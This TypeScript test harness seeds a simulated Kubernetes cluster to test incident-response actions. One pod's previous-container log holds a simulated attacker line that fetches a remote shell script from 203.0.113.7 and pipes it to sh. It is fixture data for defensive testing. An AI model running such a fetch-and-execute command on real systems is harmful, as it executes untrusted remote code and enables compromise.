// The Kubernetes action tests' cluster: the stateful sim over HTTPS (a throwaway certificate as
// certificate-authority-data, a bearer token) and the real client-node clients pointed at it,
// driven through the ActionRunner. One small shop namespace that exercises every branch the
// actions care about: two Services selecting the web pods on different labels, a ReplicaSet whose
// selector shares one of them, a policy that still allows egress, a previous container's log.

import { KubeSim, type KubeSeed } from '@firebreak/cloud-sim';
import { kubeClientsFor } from '../../src/actions/kubernetes/clients.js';
import type { ActionEnv, Target } from '../../src/actions/types.js';
import { actionFixture, baseEnv, type ActionFixture } from '../helpers/action-fixture.js';
import { tempDir } from '../helpers/tmp.js';
import { kubeConfigFor, makeTestCert, TOKEN, type TestCert } from './fake-kube.js';

let cert: TestCert | undefined;
function testCert(): TestCert {
  cert ??= makeTestCert();
  return cert;
}

export function shopSeed(): KubeSeed {
  const web = { app: 'web', tier: 'frontend', 'pod-template-hash': '7d9f' };
  return {
    namespaces: ['shop', 'ops'],
    pods: [
      {
        namespace: 'shop',
        name: 'web-7d9f-abcde',
        labels: web,
        nodeName: 'node-a',
        replicaSet: 'web-7d9f',
        containers: [
          {
            name: 'app',
            log: 'GET /health 200\nGET /admin 200 from 203.0.113.7\n',
            previousLog: 'curl http://203.0.113.7/x.sh | sh\nkilled\n',
          },
          { name: 'proxy', log: 'proxy up\n' },
        ],
      },
      {
        namespace: 'shop',
        name: 'web-7d9f-fghij',
        labels: web,
        nodeName: 'node-b',
        replicaSet: 'web-7d9f',
        containers: [
          { name: 'app', log: 'ok\n' },
          { name: 'proxy', log: 'proxy up\n' },
        ],
      },
      {
        namespace: 'shop',
        name: 'db-0',
        labels: { app: 'db' },
        nodeName: 'node-a',
        containers: [{ name: 'postgres', log: 'ready\n' }],
      },
    ],
    services: [
      { namespace: 'shop', name: 'web', selector: { app: 'web' } },
      { namespace: 'shop', name: 'frontend', selector: { tier: 'frontend' } },
      { namespace: 'shop', name: 'db', selector: { app: 'db' }, ports: [{ port: 5432 }] },
    ],
    replicaSets: [
      {
        namespace: 'shop',
        name: 'web-7d9f',
        selector: { matchLabels: { app: 'web', 'pod-template-hash': '7d9f' } },
        deployment: 'web',
        replicas: 2,
      },
    ],
    nodes: [{ name: 'node-a' }, { name: 'node-b' }],
    networkPolicies: [
      {
        namespace: 'shop',
        name: 'allow-web-ingress',
        spec: {
          podSelector: { matchLabels: { app: 'web' } },
          policyTypes: ['Ingress'],
          ingress: [{ ports: [{ port: 8080 }] }],
        },
      },
      {
        namespace: 'shop',
        name: 'allow-dns',
        spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{ ports: [{ port: 53, protocol: 'UDP' }] }] },
      },
    ],
    events: [
      {
        namespace: 'shop',
        involvedObject: { kind: 'Pod', name: 'web-7d9f-abcde' },
        reason: 'BackOff',
        message: 'Back-off restarting failed container app',
        type: 'Warning',
      },
      {
        namespace: 'shop',
        involvedObject: { kind: 'Pod', name: 'db-0' },
        reason: 'Pulled',
        message: 'Container image already present',
      },
      { namespace: 'ops', involvedObject: { kind: 'Pod', name: 'other' }, reason: 'Pulled', message: 'not in shop' },
    ],
  };
}

export const POD: Target = { kind: 'pod', id: 'shop/web-7d9f-abcde', label: 'pod shop/web-7d9f-abcde', scope: 'shop' };
export const NAMESPACE: Target = { kind: 'namespace', id: 'shop', label: 'namespace shop' };
export const NODE: Target = { kind: 'node', id: 'node-a', label: 'node node-a' };

export interface KubeHarness {
  sim: KubeSim;
  env: ActionEnv;
  fx: ActionFixture;
  dir: string;
  close(): Promise<void>;
}

/** `deadlineMs`: each call's deadline (30 s in the product; short to test a hang). */
export async function kubeHarness(seed: KubeSeed = shopSeed(), o: { deadlineMs?: number } = {}): Promise<KubeHarness> {
  const c = testCert();
  const sim = new KubeSim(seed, { token: TOKEN });
  const url = await sim.start(c);
  const dir = tempDir('fb-k8s-');
  const env = baseEnv(dir, { kube: kubeClientsFor(kubeConfigFor(url, c.cert), o) });
  const fx = await actionFixture(dir, env, { backends: ['kubernetes'] });
  return {
    sim,
    env,
    fx,
    dir,
    close: async () => {
      await fx.close();
      await sim.close();
    },
  };
}

/** The journal's records of one action, by type. */
export function recordsOf(fx: ActionFixture, actionId: string, type: string): Record<string, any>[] {
  return fx
    .records()
    .filter((r) => r.type === type && (r.data as { actionId?: string }).actionId === actionId)
    .map((r) => r.data as Record<string, any>);
}

/** Plan → confirm → execute through the runner, then the status. */
export async function runAction(
  h: KubeHarness,
  defId: string,
  target: Target,
): Promise<{ id: string; status: string }> {
  const id = await h.fx.run(defId, target);
  return { id, status: h.fx.runner.status(id) };
}
